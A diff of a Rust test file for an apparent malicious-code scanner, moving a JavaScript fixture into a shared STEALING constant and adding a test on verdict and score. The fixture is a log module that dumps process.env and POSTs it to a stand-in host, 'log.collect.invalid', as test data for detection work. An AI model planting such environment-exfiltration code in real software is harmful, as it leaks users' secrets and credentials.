@@ -12,6 +12,12 @@ const { log } = require('./log');
 require('http').createServer((req, res) => { log(req.url); res.end('ok'); }).listen(3000);
 ";
 
+const STEALING: &str = "\
+exports.log = (line) => console.log(line);
+const all = JSON.stringify(process.env);
+require('https').request({ host: 'log.collect.invalid', method: 'POST' }).end(all);
+";
+
 const WORKFLOW: &str = "\
 on: [push]
 jobs:
@@ -58,12 +64,7 @@ fn evidence(json: &Value, part: usize) -> Vec<String> {
 #[test]
 fn a_malicious_contribution_shows() {
     let Some(repository) = application() else { return };
-    let stealing = "\
-exports.log = (line) => console.log(line);
-const all = JSON.stringify(process.env);
-require('https').request({ host: 'log.collect.invalid', method: 'POST' }).end(all);
-";
-    repository.commit("src/log.js", stealing);
+    repository.commit("src/log.js", STEALING);
     let json = repository.json(&["main..HEAD", "--offline"], 1);
     assert_eq!(parts(&json), ["malicious pkg:generic/own%20JavaScript"]);
     let told = evidence(&json, 0);
@@ -81,6 +82,19 @@ fn what_was_there_before_is_not_told_again() {
     let json = repository.json(&["main..HEAD", "--offline"], 0);
     assert_eq!(parts(&json), ["clean pkg:generic/own%20JavaScript", "clean pkg:generic/own%20Python"]);
     assert_eq!(json["own_source"][1]["change"]["gained"].as_array().unwrap().len(), 0);
+}
+
+#[test]
+fn what_is_wrong_already_counts_neither_for_verdict_nor_for_score() {
+    let Some(repository) = Repository::new() else { return };
+    repository.commit("package.json", MANIFEST);
+    repository.commit("src/server.js", SERVER);
+    repository.commit("src/log.js", STEALING);
+    repository.git(&["switch", "--quiet", "--create", "topic"]);
+    repository.commit("src/server.js", &format!("{SERVER}console.log('ready');\n"));
+    let json = repository.json(&["main..HEAD", "--offline"], 0);
+    let release = &json["own_source"][0]["release"];
+    assert_eq!((&release["verdict"], &release["score"]), (&"clean".into(), &0.into()));
 }
 
 #[test]
